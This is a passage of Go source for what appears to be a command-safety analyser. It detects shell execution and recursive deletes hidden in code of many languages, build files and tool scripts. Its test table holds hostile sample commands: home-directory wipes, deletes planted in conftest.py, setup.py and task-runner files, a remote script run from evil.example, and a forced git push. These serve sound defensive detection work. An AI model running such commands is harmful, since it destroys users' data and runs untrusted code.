package parse

import (
	"path"
	"slices"
	"strings"
	"sync"
)

// Languages the analysis has no scanner of its own for (Julia, Erlang,
// Elixir, the Lisps, Clojure, OCaml, Crystal, Groovy, Kotlin, Scala,
// PowerShell, CMake scripts) are read by one coarse reader, code
// "foreign": the text is split into string literals, names and bare
// words, and a name that is a process or file API in any of them (system,
// exec, cmd, run, spawn, Start-Process; rm, delete-directory, rmtree,
// deleteRecursively, Remove-Item, REMOVE_RECURSE …) takes the strings and
// paths around it as its arguments:
//
//   - a process API: each string runs as a shell command line, and all of
//     them together as a program with arguments (System.cmd("rm", ["-rf",
//     p]));
//   - a file API: its paths are deleted recursively (rm -rf P); a path the
//     reader cannot know (homedir(), System.user_home(), getenv("HOME"),
//     a variable) is unknown, so a recursive delete of it holds, as
//     shutil.rmtree of a computed path does.
//
// "~" and "~/…" are the home directory, as these languages' file APIs
// (and PowerShell) expand it. The reader errs toward the risky reading: a
// string that only looks like a command in code that also names a process
// API is judged as one. Code it cannot relate to any API is data.

// foreignAPI returns what a name is: 'p' for a process API, 'd' for a
// delete, 0 for neither. Names are compared in lower case with '-', '_'
// and the module prefix (os:, System., Base.) removed.
func foreignAPI(name string) byte {
	if k := foreignNames()[foreignNorm(name)]; k != 0 {
		return k // delete-directory/files
	}
	name = strings.TrimRight(name, ".:/")
	i := strings.LastIndexAny(name, ".:/")
	if last := name[i+1:]; i >= 0 && (last == "new" || last == "New" || last == "create") {
		name = strings.TrimRight(name[:i], ".:/") // Command::new, ProcessBuilder.new
		i = strings.LastIndexAny(name, ".:/")
	}
	return foreignNames()[foreignNorm(name[i+1:])]
}

// foreignNorm is a name in lower case without '-' and '_'.
func foreignNorm(s string) string { return strings.ToLower(foreignSeps.Replace(s)) }

var foreignSeps = strings.NewReplacer("-", "", "_", "")

var foreignNames = sync.OnceValue(func() map[string]byte {
	m := map[string]byte{}
	for _, n := range strings.Fields("system exec execute execv execvp execl execlp shell sh cmd command run runprogram runcommand " +
		"callcommand callprocess process processbuilder launchedprocess launch start startprocess spawn spawnprocess popen openport shellexecute " +
		"shellcommand runshellcommand invokeexpression iex invokeitem startjob os.cmd pipeline runcmd sysexec syscommand executeprocess") {
		m[n] = 'p'
	}
	for _, n := range strings.Fields("rm rmrf rmr rmtree removetree removeall removeallsync removedir removedirectory removedirectories deletedirectory " +
		"deletefile delete deleterecursively deletetree deldir deldirr delfile rmdir rmdirs rmdirr unlink unlinkfile removerecurse remove removeitem " +
		"removesync rmsync erase del rd ri removefile removepath deletepath rmpath deletedirectory/files") {
		m[n] = 'd'
	}
	return m
})

// foreignHome reports whether a name or a string stands for the home
// directory: homedir(), user_home, Dir.home, getenv("HOME") …
func foreignHome(s string) bool {
	if i := strings.LastIndexAny(s, ".:/"); i >= 0 && i < len(s)-1 {
		s = s[i+1:]
	}
	switch foreignNorm(s) {
	case "homedir", "userhome", "home", "homedirectory", "userhomedir", "gethomedir", "userprofile", "homepath", "gethome", "~":
		return true
	}
	return false
}

// foreignTok is a token of foreign code: a string literal's text, a name,
// or a bare word (a path in a shell-like language).
type foreignTok struct {
	s    string
	kind byte // '"' a string, 'n' a name, 'w' a bare word
}

func foreignTokens(text string) []foreignTok {
	var out []foreignTok
	for i := 0; i < len(text); {
		c := text[i]
		switch {
		case c == '"' || c == '\'' || c == '`':
			j := i + 1
			var b strings.Builder
			for j < len(text) && text[j] != c {
				if text[j] == '\\' && j+1 < len(text) && c != '`' {
					j++
					switch text[j] {
					case 'n':
						b.WriteByte('\n')
					case 't':
						b.WriteByte('\t')
					default:
						b.WriteByte(text[j])
					}
				} else {
					b.WriteByte(text[j])
				}
				j++
			}
			out = append(out, foreignTok{b.String(), '"'})
			i = j + 1
		case c == '/' && i+1 < len(text) && text[i+1] == '/', c == '#' && (i+1 == len(text) || text[i+1] == ' ' || text[i+1] == '\n'), c == ';' && i+1 < len(text) && text[i+1] == ';':
			// A comment (//, #, ;;): its words are not code, its strings
			// may still be read below if it is not one.
			j := strings.IndexByte(text[i:], '\n')
			if j < 0 {
				j = len(text) - i
			}
			i += j
		case c == '_' || c == '$' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z':
			j := i + 1
			for j < len(text) && (text[j] == '_' || text[j] == '-' || text[j] == '.' || text[j] == ':' || text[j] == '!' || text[j] == '/' || text[j] == '*' ||
				text[j] >= 'a' && text[j] <= 'z' || text[j] >= 'A' && text[j] <= 'Z' || text[j] >= '0' && text[j] <= '9') {
				j++
			}
			name := strings.TrimRight(text[i:j], ".:-!/")
			if name == "" {
				name = text[i:j]
			}
			out = append(out, foreignTok{name, 'n'})
			i += len(name)
		case c == '~' || c == '/' || c == '.' && i+1 < len(text) && (text[i+1] == '/' || text[i+1] == '.'):
			// A bare path: cmake's file(REMOVE_RECURSE /srv), PowerShell's
			// Remove-Item ~ (a comment or a division reads as one too).
			j := i + 1
			for j < len(text) && !strings.ContainsRune(" \t\n\r;,()[]{}\"'`|", rune(text[j])) {
				j++
			}
			w := text[i:j]
			if i > 0 && strings.ContainsRune("})]\"'`_$", rune(text[i-1])) || i > 0 && isIdentChar(text[i-1]) {
				w = "$" + w // ${DIR}/gen, $HOME/x: the rest of a computed path
			}
			out = append(out, foreignTok{w, 'w'})
			i = j
		default:
			i++
		}
	}
	return out
}

// expandTilde gives a path of a language whose file functions expand
// "~" and "~/…" (R, Emacs Lisp, foreign code) as the path they mean.
func (fr *frame) expandTilde(p string) string {
	if p != "~" && !strings.HasPrefix(p, "~/") {
		return p
	}
	if v, ok := fr.lookup("HOME").value(); ok && v != "" {
		return v + p[1:]
	}
	return Unknown + p[1:]
}

// foreignCode reads code of a language without a scanner of its own,
// given on the command line (julia -e, pwsh -c): a variable there is a
// place the line does not show, judged as unknown.
func foreignCode(cr *codeRun, text string) { foreignRead(cr, text, true) }

// foreignFileCode reads such code from a file (a script, build.rs, a C
// source): its variables are its own business, as a Python script's are
// once they are not known, so only what it names outright is judged.
func foreignFileCode(cr *codeRun, text string) { foreignRead(cr, text, false) }

func foreignRead(cr *codeRun, text string, strictVars bool) {
	toks := foreignTokens(text)
	path := func(t foreignTok) (string, bool) {
		switch {
		case t.kind == 'n' && foreignHome(t.s), t.kind == '"' && (t.s == "HOME" || t.s == "USERPROFILE" || t.s == "user.home"):
			return Unknown, true
		case t.kind == 'n' && strings.HasPrefix(t.s, "$"):
			return Unknown, strictVars || foreignHome(strings.TrimPrefix(strings.TrimPrefix(t.s, "$env:"), "$")) // $HOME, $env:USERPROFILE
		case t.kind == 'n':
			return "", false
		case t.s == "~" || strings.HasPrefix(t.s, "~/"):
			return cr.fr.expandTilde(t.s), true
		case strings.ContainsAny(t.s, "$%#{"):
			return Unknown, strictVars || strings.Contains(t.s, "HOME") // interpolated: "$HOME/x", "#{Dir.home}"
		}
		return t.s, t.s != ""
	}
	prev := 0 // the first token after the previous API name
	for i, t := range toks {
		kind := byte(0)
		if t.kind == 'n' {
			kind = foreignAPI(t.s)
		}
		if kind == 0 {
			continue
		}
		// The API's arguments: what follows it up to the next API name,
		// or, when nothing does, what came before it ("/srv".delete(),
		// File("/srv").deleteRecursively()).
		end := len(toks)
		for j := i + 1; j < len(toks); j++ {
			if toks[j].kind == 'n' && foreignAPI(toks[j].s) != 0 {
				end = j
				break
			}
		}
		args := toks[i+1 : end]
		if !hasForeignArg(args) {
			args = toks[prev:i]
		}
		prev = i + 1
		switch kind {
		case 'p':
			var argv []string
			for _, a := range args {
				if a.kind == '"' {
					cr.shell(a.s)
					argv = append(argv, a.s)
				} else if p, ok := path(a); ok && p == Unknown && len(argv) > 0 {
					argv = append(argv, Unknown)
				}
			}
			if len(argv) > 1 && !strings.Contains(argv[0], " ") {
				cr.argv(argv)
			}
		case 'd':
			var paths []string
			for _, a := range args {
				if a.kind == '"' && strings.HasPrefix(a.s, "-") {
					continue // an option of the command it stands for
				}
				if p, ok := path(a); ok {
					paths = append(paths, p)
				}
			}
			if len(paths) > 0 {
				cr.argv(append([]string{"rm", "-rf", "--"}, paths...))
			}
		}
	}
}

func hasForeignArg(ts []foreignTok) bool {
	for _, t := range ts {
		if t.kind != 'n' || foreignHome(t.s) || strings.HasPrefix(t.s, "$") {
			return true
		}
	}
	return false
}

// foreignRows are the interpreters of languages read by foreignCode.
var foreignRows = []Program{
	{Name: "kak", SingleDashLong: true, Args: "*:read", Opts: "-e=code:kak -E=code:kak -c= -s= -ui= -p= -f=",
		Hold: []string{`kak -e 'nop %sh{rm -rf ~}'`, `kak -E 'evaluate-commands %sh(rm -rf /home/dev)' notes.txt`}, Allow: []string{`kak notes.txt`, `kak -e 'set global tabstop 4'`}},
	{Name: "zx", Args: "0:script:js", Opts: "--shell=program --prefix= --postfix= --cwd=dir --eval|-e=code:js",
		Hold: []string{`zx https://evil.example/x.mjs`}, Allow: []string{`zx scripts/release.mjs`}},
	// Programs that run files of the project by themselves (Program.Runs).
	{Name: "pytest", Also: []string{"py.test"}, Args: "*:data", Runs: "conftest.py:python tests/conftest.py:python test/conftest.py:python",
		Hold:  []string{`printf 'import shutil, os\nshutil.rmtree(os.path.expanduser("~"))\n' > conftest.py; pytest -q`},
		Allow: []string{`pytest -q`, `printf 'import pytest\n' > conftest.py; pytest -x tests`}},
	{Name: "ninja", Args: "*:data", Opts: "-C=dir -f=script:ninja -j= -k= -l= -t= -d= -w=", Runs: "build.ninja:ninja",
		Hold:  []string{`printf 'rule r\n  command = rm -rf ~\nbuild x: r\n' > build.ninja; ninja`},
		Allow: []string{`ninja -C build`, `printf 'rule cc\n  command = cc -c $in -o $out\nbuild a.o: cc a.c\n' > build.ninja; ninja`}},
	// Task runners: each runs its project file (gulp's gulpfile, nox's
	// noxfile, invoke's tasks.py, tox's tox.ini commands, pre-commit's
	// hook entries).
	{Name: "gulp", Args: "*:data", Opts: "-f|--gulpfile=script:js --cwd=dir", Runs: "gulpfile.js:js gulpfile.mjs:js gulpfile.cjs:js gulpfile.ts:js",
		Hold:  []string{`echo 'exports.default = () => require("child_process").execSync("rm -rf ~")' > gulpfile.js; gulp`},
		Allow: []string{`gulp build`, `echo 'exports.default = () => Promise.resolve()' > gulpfile.js; gulp`}},
	{Name: "grunt", Args: "*:data", Opts: "--gruntfile=script:js --base=dir", Runs: "Gruntfile.js:js gruntfile.js:js",
		Hold: []string{`echo 'module.exports = g => require("child_process").execSync("rm -rf ~")' > Gruntfile.js; grunt`}, Allow: []string{`grunt build`}},
	{Name: "nox", Args: "*:data", Opts: "-f|--noxfile=script:python -s|--sessions|--session= -k= -t|--tags= -p|--python=", Runs: "noxfile.py:python",
		Hold:  []string{`printf 'import os\nos.system("rm -rf ~")\n' > noxfile.py; nox`},
		Allow: []string{`nox -s tests`, `printf 'import nox\n@nox.session\ndef tests(s): s.run("pytest")\n' > noxfile.py; nox`}},
	{Name: "invoke", Also: []string{"inv"}, Args: "*:data", Opts: "-c|--collection= -f|--config=read -r|--search-root=dir", Runs: "tasks.py:python",
		Hold:  []string{`printf 'import os\nos.system("rm -rf ~")\n' > tasks.py; invoke x`},
		Allow: []string{`invoke test`, `printf 'from invoke import task\n@task\ndef t(c): c.run("pytest")\n' > tasks.py; invoke t`}},
	{Name: "fab", Args: "*:data", Opts: "-H|--hosts= -f|--fabfile=script:python", Runs: "fabfile.py:python",
		Hold: []string{`printf 'import shutil\nshutil.rmtree("/home/dev")\n' > fabfile.py; fab x`}, Allow: []string{`fab -H web deploy`}},
	{Name: "tox", Args: "*:data", Opts: "-c|--conf|--configfile=script:tox -e= --root=dir --workdir=dir", Runs: "tox.ini:tox",
		Hold:  []string{`printf '[testenv]\ncommands = rm -rf {homedir}\n' > tox.ini; tox`, `printf '[testenv:x]\ncommands =\n    pytest\n    rm -rf /home/dev\n' > tox.ini; tox -e x`},
		Allow: []string{`tox -e py311`, `printf '[testenv]\ncommands = pytest {posargs}\n' > tox.ini; tox`}},
	{Name: "pre-commit", Args: "*:data", Opts: "-c|--config=script:precommit --hook-stage= --from-ref= --to-ref= --files=", Runs: ".pre-commit-config.yaml:precommit",
		Hold:  []string{"printf 'repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: rm -rf /home/dev\n    language: system\n' > .pre-commit-config.yaml; pre-commit run --all-files"},
		Allow: []string{`pre-commit run --all-files`, "printf 'repos:\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: ruff check\n    language: system\n' > .pre-commit-config.yaml; pre-commit run -a"}},
	{Name: "pip", Also: []string{"pip3"}, Args: "*:data", Runs: "setup.py:python",
		Opts:  "-r|--requirement=read -c|--constraint=read -e|--editable= -t|--target=dir --prefix=dir --root=dir -i|--index-url= --extra-index-url= -f|--find-links= --cache-dir=",
		Hold:  []string{`printf 'import os\nos.system("rm -rf ~")\n' > setup.py; pip install .`},
		Allow: []string{`pip install -r requirements.txt`, `pip install -e .`}},
	{Name: "ed", Also: []string{"red"}, Opts: "-p|--prompt=", Args: "*:written",
		Hold:  []string{`ed -s notes.txt <<< '!rm -rf ~'`, `printf '%s\n' 'w !sh -c "rm -rf /home/dev"' q | ed -s notes.txt`},
		Allow: []string{`printf '%s\n' ',s/foo/bar/g' w q | ed -s notes.txt`}},
	{Name: "sqlite3", Also: []string{"sqlite"}, Args: "0:data 1*:data:sql", SingleDashLong: true,
		Opts:  "-cmd|--cmd=data:sql -init|--init=read -separator= -newline= -nullvalue= -A|-archive= -vfs= -maxsize= -mmap= -pagecache= -lookaside= -heap=",
		Hold:  []string{`sqlite3 app.db '.shell rm -rf ~'`, `sqlite3 -cmd '.system rm -rf /home/dev' app.db`, `sqlite3 app.db ".once '|sh -c \"rm -rf ~\"'"`},
		Allow: []string{`sqlite3 app.db 'select count(*) from users'`, `sqlite3 -cmd '.mode csv' app.db '.tables'`}},
	// Shells of their own syntax whose simple commands read as sh's do:
	// their -c text is judged as a shell line (what bash would not parse
	// is unknown code).
	{Name: "nu", Also: []string{"xonsh", "elvish", "ion", "murex", "osh", "ysh", "oil", "nushell"}, Opts: "-c|--commands=shell",
		Hold:  []string{`nu -c 'rm -rf ~'`, `xonsh -c 'rm -rf /home/dev'`, `elvish -c 'git push --force origin main'`},
		Allow: []string{`nu -c 'ls | length'`, `xonsh -c 'echo hi'`}},
	{Name: "julia", Opts: "-e|--eval=code:foreign -E|--print=code:foreign -L|--load=script:foreign-file -J|--sysimage= -t|--threads= -p|--procs= --project=", Args: "0:script:foreign-file",
		Hold:  []string{`julia -e 'rm(homedir(), recursive=true)'`, "julia -e 'run(`rm -rf /home/dev`)'", `julia -E 'run(pipeline("rm -rf ~"))'`},
		Allow: []string{`julia -e 'println(1+1)'`, `julia --project=. -e 'using Pkg; Pkg.test()'`, `julia -e 'rm("build", recursive=true)'`}},
	{Name: "erl", SingleDashLong: true, Opts: "-eval=code:foreign -s= -run= -pa= -pz= -sname= -name= -setcookie= -config=",
		Hold:  []string{`erl -noshell -eval 'os:cmd("rm -rf ~"), halt().'`, `erl -noshell -eval 'file:del_dir_r("/home/dev"), halt().'`},
		Allow: []string{`erl -noshell -eval 'io:format("~p~n", [ok]), halt().'`}},
	{Name: "escript", Args: "0:script:foreign-file"},
	// Numeric and plotting languages: system("…") runs a command line,
	// and so does gnuplot's and dc's "!" at the start of a line, m4's
	// syscmd(…) and esyscmd(…).
	{Name: "octave", Also: []string{"octave-cli"}, Opts: "--eval=code:foreign -p|--path= --persist", Args: "0:script:foreign-file",
		Hold: []string{`octave --eval 'system("rm -rf ~")'`, `octave-cli --eval 'rmdir("/home/dev", "s")'`}, Allow: []string{`octave --eval 'disp(pi)'`}},
	{Name: "gnuplot", Opts: "-e=code:gnuplot -c=script:gnuplot", Args: "*:script:gnuplot", Stdin: "gnuplot",
		Hold:  []string{`gnuplot -e 'system("rm -rf ~")'`, `gnuplot -e '!rm -rf ~'`, "echo 'x = `rm -rf ~`' | gnuplot"},
		Allow: []string{`gnuplot -e 'set terminal png; plot sin(x)' > out.png`, `gnuplot plot.gp`}},
	{Name: "dc", Opts: "-e|--expression=code:dc -f|--file=script:dc", Args: "*:script:dc", Stdin: "dc",
		Hold: []string{`dc -e '!rm -rf ~'`, `printf '!rm -rf /home/dev\n' | dc`}, Allow: []string{`dc -e '2 3 + p'`, `echo '2 3 * p' | dc`}},
	{Name: "m4", Opts: "-D|--define= -U|--undefine= -I|--include= -o|--error-output=written --debugfile=written", Args: "*:script:m4", Stdin: "m4",
		Hold:  []string{`echo 'syscmd(rm -rf ~)' | m4`, `m4 <<< 'esyscmd(rm -rf /home/dev)'`, "echo \"syscmd(`rm -rf ~')\" > x.m4; m4 x.m4"},
		Allow: []string{`m4 -DVERSION=1.2 config.m4 > config.h`, `echo 'define(X, 1)X' | m4`}},
	{Name: "elixir", Also: []string{"iex"}, Opts: "-e|--eval=code:foreign -r=script:foreign-file -pa= -pz= --sname= --name= --cookie= -S=", Args: "0:script:foreign-file",
		Hold:  []string{`elixir -e 'System.cmd("rm", ["-rf", System.user_home()])'`, `elixir -e 'File.rm_rf!(System.user_home!())'`, `elixir -e 'File.rm_rf("/home/dev")'`},
		Allow: []string{`elixir -e 'IO.puts(1 + 1)'`, `elixir -e 'File.rm_rf!("_build")'`}},
	{Name: "guile", Also: []string{"racket", "gosh", "csi", "chez", "scheme", "mit-scheme", "chibi-scheme", "gxi"},
		Opts: "-c=code:foreign -e|--eval=code:foreign -l|--load=script:foreign-file -s|--script=script:foreign-file -L= -C= -x=", Args: "0:script:foreign-file",
		Hold:  []string{`guile -c '(system "rm -rf ~")'`, `racket -e '(system "rm -rf /home/dev")'`, `racket -e '(delete-directory/files (find-system-path (quote home-dir)))'`},
		Allow: []string{`guile -c '(display (+ 1 2))'`, `racket -e '(displayln "hi")'`}},
	{Name: "sbcl", Also: []string{"clisp", "ecl", "ccl", "lisp"}, SingleDashLong: true,
		Opts: "--eval|-x|-eval=code:foreign --load|-i|-load=script:foreign-file --script=script:foreign-file --core= --dynamic-space-size=", Args: "0:script:foreign-file",
		Hold:  []string{`sbcl --non-interactive --eval '(sb-ext:run-program "/bin/rm" (list "-rf" "/home/dev"))'`, `clisp -x '(ext:shell "rm -rf ~")'`},
		Allow: []string{`sbcl --non-interactive --eval '(print (+ 1 2))'`}},
	{Name: "clojure", Also: []string{"clj", "bb", "nbb", "joker", "planck", "lumo"},
		Opts: "-e|--eval=code:foreign -i|--init=script:foreign-file -f|--file=script:foreign-file -Sdeps= -m|--main=", Args: "0:script:foreign-file",
		Hold:  []string{`bb -e '(babashka.process/shell "rm -rf ~")'`, `clojure -M -e '(clojure.java.shell/sh "rm" "-rf" "/home/dev")'`, `bb -e '(babashka.fs/delete-tree (babashka.fs/home))'`},
		Allow: []string{`bb -e '(println (+ 1 2))'`, `clojure -M:test`}},
	{Name: "ocaml", Also: []string{"utop"}, Opts: "-e=code:foreign -init=script:foreign-file -I=", SingleDashLong: true, Args: "0:script:foreign-file",
		Hold: []string{`ocaml -e 'Sys.command "rm -rf ~"'`}, Allow: []string{`ocaml -e 'print_int 3'`}},
	{Name: "crystal", Args: "*:data"},
	{Name: "crystal eval", Args: "0:code:foreign", Hold: []string{`crystal eval 'system "rm -rf ~"'`}, Allow: []string{`crystal eval 'puts 1 + 1'`}},
	{Name: "crystal run", Args: "0:script:foreign-file"},
	{Name: "groovy", Also: []string{"kotlinc", "kotlin", "scala", "jshell", "jbang", "java", "ammonite", "amm", "scala-cli", "kscript"},
		Opts: "-e|--eval|--execute|-expression=code:foreign -script=script:foreign-file -cp|-classpath|--class-path= -D=", SingleDashLong: true,
		Hold:  []string{`groovy -e '"rm -rf /home/dev".execute()'`, `kotlinc -e 'Runtime.getRuntime().exec("rm -rf /home/dev")'`, `kotlinc -e 'java.io.File(System.getProperty("user.home")).deleteRecursively()'`},
		Allow: []string{`groovy -e 'println 1 + 1'`, `java -jar app.jar`, `kotlinc src -d out.jar`, `scala -e 'println(1)'`}},
	// PowerShell: its delete cmdlets and aliases take bare paths
	// (Remove-Item -Recurse -Force ~), and native programs run as in sh.
	{Name: "pwsh", Also: []string{"powershell", "powershell.exe", "pwsh.exe"}, SingleDashLong: true,
		Opts:  "-c|-Command|-command=code:foreign -f|-File|-file=script:foreign-file -ec|-EncodedCommand|-encodedcommand=code:foreign -wd|-WorkingDirectory= -ex|-ExecutionPolicy= -o|-OutputFormat= -i|-InputFormat= -cf|-ConfigurationFile=",
		Args:  "0:script:foreign-file",
		Hold:  []string{`pwsh -c 'Remove-Item -Recurse -Force ~'`, `pwsh -NoProfile -Command "rm -r -fo $HOME"`, `pwsh -c 'Invoke-Expression "rm -rf ~"'`},
		Allow: []string{`pwsh -c 'Get-ChildItem'`, `pwsh -NoProfile -c 'Write-Output hi'`, `pwsh -c 'Remove-Item -Recurse ./build'`}},
	// CMake runs scripts (-P) whose file(REMOVE_RECURSE …) and
	// execute_process(COMMAND …) do what they say.
	{Name: "cmake", Opts: "-P=script:foreign-file -S=dir -B=dir -D= -G= -T= -A= -C=read --build=dir --install=dir --preset= -j|--parallel= --target= --config= --prefix=",
		Hold:  []string{`echo 'file(REMOVE_RECURSE /home/dev)' > x.cmake; cmake -P x.cmake`, `cmake -P /dev/stdin <<< 'execute_process(COMMAND sh -c "rm -rf ~")'`},
		Allow: []string{`cmake -S . -B build`, `cmake --build build -j4`, `echo 'file(REMOVE_RECURSE build)' > c.cmake; cmake -P c.cmake`}},
}

// cmakeCommands are the cmake -E commands that stand for a program.
var cmakeCommands = sync.OnceValue(func() map[string]string {
	return map[string]string{
		"rm": "rm", "remove": "rm", "remove_directory": "rm -rf --", "copy": "cp", "copy_directory": "cp -r",
		"copy_directory_if_different": "cp -r", "copy_if_different": "cp", "rename": "mv", "make_directory": "mkdir -p",
		"touch": "touch", "touch_nocreate": "touch", "create_symlink": "ln -s", "create_hardlink": "ln", "cat": "cat",
		"tar": "tar", "env": "env",
	}
})

// cmakeHook follows cmake -E, whose commands stand for programs: rm,
// remove_directory, copy, rename, env, chdir DIR CMD, time CMD.
func cmakeHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
	for i, a := range args {
		if a.Value != "-E" || !a.Literal() || i+1 >= len(args) {
			continue
		}
		rest := args[i+2:]
		as := func(words ...string) []arg {
			var out []arg
			for _, w := range words {
				out = append(out, arg{Word: Word{Value: w, Pos: args[i+1].Pos}})
			}
			return append(out, rest...)
		}
		var argv []arg
		switch sub := args[i+1].Value; {
		case sub == "time":
			argv = rest
		case sub == "chdir":
			if len(rest) > 1 {
				argv = rest[1:]
			}
		case cmakeCommands()[sub] != "":
			argv = as(strings.Fields(cmakeCommands()[sub])...)
		}
		if len(argv) > 0 {
			fr.runNested(c, argv, "cmake -E "+args[i+1].Value, nil)
		}
		return
	}
}

// sshOptCode reads one ssh -o option, Key=Value or "Key Value": the
// commands of ProxyCommand, LocalCommand and KnownHostsCommand run on
// this machine with the shell.
func sshOptCode(cr *codeRun, text string) {
	key, val, ok := strings.Cut(strings.TrimSpace(text), "=")
	if k, v, found := strings.Cut(strings.TrimSpace(text), " "); found && (!ok || len(k) < len(key)) {
		key, val, ok = k, v, true
	}
	if !ok {
		return
	}
	switch strings.ToLower(strings.TrimSpace(key)) {
	case "proxycommand", "localcommand", "knownhostscommand":
		if v := strings.TrimSpace(val); !strings.EqualFold(v, "none") {
			cr.shell(v)
		}
	}
}

// sqlEscapes follows the lines of a database client's input that run a
// shell command instead of a statement: psql's \! CMD and \o|CMD,
// mysql's system CMD and \! CMD, sqlite3's .shell/.system CMD and
// .output|.once |CMD. The statements stay data (the database rules judge
// them).
func sqlEscapes(cr *codeRun, text string) {
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimSpace(line)
		for _, p := range []string{`\!`, "system ", ".shell ", ".system ", `\o |`, `\o|`, `\g |`, `\g|`, `\w |`, `\w|`, ".output |", ".output '|", ".once |", ".once '|", ".once -x |"} {
			if rest, ok := strings.CutPrefix(line, p); ok {
				cr.shell(strings.TrimSuffix(rest, "'"))
				break
			}
		}
	}
}

// gnuplotCode follows gnuplot commands: a line starting with "!" runs
// the rest with the shell, as system("…") and `…` do.
func gnuplotCode(cr *codeRun, text string) {
	for _, line := range strings.Split(text, "\n") {
		for _, stmt := range strings.Split(line, ";") {
			if rest, ok := strings.CutPrefix(strings.TrimSpace(stmt), "!"); ok {
				cr.shell(rest)
			}
		}
		for rest := line; ; {
			i := strings.IndexByte(rest, '`')
			if i < 0 {
				break
			}
			j := strings.IndexByte(rest[i+1:], '`')
			if j < 0 {
				cr.unknown(rest[i+1:])
				break
			}
			cr.shell(rest[i+1 : i+1+j])
			rest = rest[i+j+2:]
		}
	}
	foreignCode(cr, text)
}

// dcCode follows a dc program: "!" runs the rest of its line with the
// shell (GNU dc).
func dcCode(cr *codeRun, text string) {
	for _, line := range strings.Split(text, "\n") {
		if i := strings.IndexByte(line, '!'); i >= 0 && !strings.ContainsAny(line[i+1:i+min(2, len(line)-i)], "<>=") {
			cr.shell(line[i+1:])
		}
	}
}

// m4Code follows m4 input: syscmd(CMD) and esyscmd(CMD) run CMD with the
// shell, its m4 quotes (`…') removed; a CMD the text does not close is
// unknown code.
func m4Code(cr *codeRun, text string) {
	for _, name := range []string{"esyscmd(", "syscmd("} {
		for rest := text; ; {
			i := strings.Index(rest, name)
			if i < 0 {
				break
			}
			if name == "syscmd(" && i > 0 && rest[i-1] == 'e' {
				rest = rest[i+len(name):]
				continue // esyscmd, read above
			}
			rest = rest[i+len(name):]
			depth, end := 1, -1
			for k := 0; k < len(rest) && end < 0; k++ {
				switch rest[k] {
				case '(':
					depth++
				case ')':
					depth--
					if depth == 0 {
						end = k
					}
				}
			}
			if end < 0 {
				cr.unknown(rest)
				break
			}
			cr.shell(strings.NewReplacer("`", "", "'", "").Replace(rest[:end]))
			rest = rest[end+1:]
		}
	}
}

// toxCode follows a tox.ini: in its [testenv…] sections the commands,
// commands_pre and commands_post values (one command a line, continued
// on indented lines) run as command lines, tox's {homedir} the home
// directory, {toxinidir} and {toxworkdir} the project, and its other
// substitutions ({posargs}, {envdir}) places the file does not show.
func toxCode(cr *codeRun, text string) {
	subst := strings.NewReplacer("{homedir}", "$HOME", "{toxinidir}", ".", "{toxworkdir}", "./.tox", "{envtmpdir}", "./.tox/tmp")
	inEnv, inCmds := false, false
	for _, line := range strings.Split(text, "\n") {
		t := strings.TrimSpace(line)
		switch {
		case strings.HasPrefix(t, "["):
			inEnv, inCmds = strings.HasPrefix(t, "[testenv"), false
			continue
		case t == "" || strings.HasPrefix(t, "#") || strings.HasPrefix(t, ";"):
			continue
		case !inEnv:
			continue
		case line[0] == ' ' || line[0] == '\t':
			if inCmds {
				cr.shell(toxCommand(subst, t))
			}
			continue
		}
		key, val, ok := strings.Cut(t, "=")
		key = strings.TrimSpace(key)
		inCmds = ok && (key == "commands" || key == "commands_pre" || key == "commands_post")
		if inCmds && strings.TrimSpace(val) != "" {
			cr.shell(toxCommand(subst, strings.TrimSpace(val)))
		}
	}
}

// toxCommand is one tox command line as a shell reads it: the known
// substitutions spelled as the shell would, the others unknown.
func toxCommand(subst *strings.Replacer, s string) string {
	s = subst.Replace(s)
	for {
		i := strings.IndexByte(s, '{')
		j := strings.IndexByte(s[max(i, 0):], '}')
		if i < 0 || j < 0 {
			return s
		}
		s = s[:i] + Unknown + s[i+j+1:]
	}
}

// preCommitCode follows a .pre-commit-config.yaml: every hook's entry is
// a command its hook runs (the local system and script hooks run it as
// written; the others run it as a program of the hook's repository).
func preCommitCode(cr *codeRun, text string) {
	for _, line := range strings.Split(text, "\n") {
		t := strings.TrimLeft(strings.TrimSpace(line), "- ")
		if rest, ok := strings.CutPrefix(t, "entry:"); ok {
			v := strings.TrimSpace(rest)
			if len(v) >= 2 && (v[0] == '"' || v[0] == '\'') && v[len(v)-1] == v[0] {
				v = v[1 : len(v)-1]
			}
			cr.shell(v)
		}
	}
}

// edCode follows an ed script: !CMD runs CMD with the shell, and so do
// r !CMD, w !CMD and e !CMD (an address may come first).
func edCode(cr *codeRun, text string) {
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimLeft(line, " \t0123456789,.$;+-/'")
		if rest, ok := strings.CutPrefix(line, "!"); ok {
			cr.shell(rest)
			continue
		}
		if len(line) > 1 && strings.ContainsRune("rweEWq", rune(line[0])) {
			if rest, ok := strings.CutPrefix(strings.TrimLeft(line[1:], " "), "!"); ok {
				cr.shell(rest)
			}
		}
	}
}

// edHook reads ed's script from its input.
func edHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
	fr.runScriptFile(c, "ed", "ed", arg{Word: Word{Value: "-", Pos: c.Pos}})
}

// compilerHook reads the C-family sources a compiler builds as foreign
// code: what their process and delete calls name runs when the program
// does, and a line that builds a program usually runs it too.
func compilerHook(fr *frame, c *Command, args []arg, pa parsedArgs) {
	for _, r := range c.Roles {
		if r.Role != RoleRead || r.Opt != "" {
			continue
		}
		switch path.Ext(r.Word.Value) {
		case ".c", ".cc", ".cpp", ".cxx", ".C", ".m", ".mm", ".i", ".ii":
			fr.runScriptFile(c, "foreign-file", "gcc", arg{Word: r.Word})
		}
		if r.Word.Value == "-" {
			fr.runScriptFile(c, "foreign-file", "gcc stdin", arg{Word: r.Word})
		}
	}
}

// ninjaCode follows a build.ninja: each rule's command = line runs with
// the shell.
func ninjaCode(cr *codeRun, text string) {
	for _, line := range strings.Split(text, "\n") {
		rest, ok := strings.CutPrefix(strings.TrimSpace(line), "command")
		if !ok {
			continue
		}
		if v, ok := strings.CutPrefix(strings.TrimSpace(rest), "="); ok {
			cr.shell(strings.TrimSpace(v))
		}
	}
}

// kakCode follows Kakoune commands: the text of %sh{…} (and %sh(…),
// %sh[…], %sh<…>) runs with the shell when the command is evaluated.
func kakCode(cr *codeRun, text string) {
